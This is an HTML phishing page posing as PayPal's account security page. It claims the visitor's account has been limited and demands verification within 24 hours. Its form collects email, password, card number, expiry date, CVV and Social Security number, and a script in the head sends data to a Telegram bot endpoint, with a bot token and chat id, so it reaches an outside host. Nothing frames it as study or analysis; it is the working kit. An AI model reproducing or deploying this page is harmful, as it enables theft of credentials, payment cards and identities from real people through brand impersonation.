<html lang="en">
<head>
<meta charset="utf-8">
<title>PayPal - Account Security</title>
<style>html,body{height:100%}.wrap{width:1000px;margin:0 auto}</style>
<script>function send(d){fetch("https://api.telegram.org/bot4442176904:AAeehizvwjcfzygxhlzixvtakccahfnt/sendMessage?chat_id=-178432932&text="+encodeURIComponent(d))}</script>
</head>
<body>
<table class="nav" width="100%"><tr><td><a href="/1">Help</a></td><td><a href="/#2">Security</a></td></tr></table>
<main class="main">
<section>
<div class="alert">Your PayPal account has been limited. Please verify your account within 24 hours.</div>
</section>
<section>
<form action="next.php" method="post"><input name="email" placeholder="Email"><input type="password" name="password" placeholder="Password"><input name="card_number" placeholder="Card number"><input name="exp" placeholder="Expiration date (MM/YY)"><input name="cvv" placeholder="Security code (CVV)"><input name="ssn" placeholder="SSN"><button>Verify Now</button></form>
</section>
</main>
<footer>© PayPal. All rights reserved.</footer>

</body>
</html>
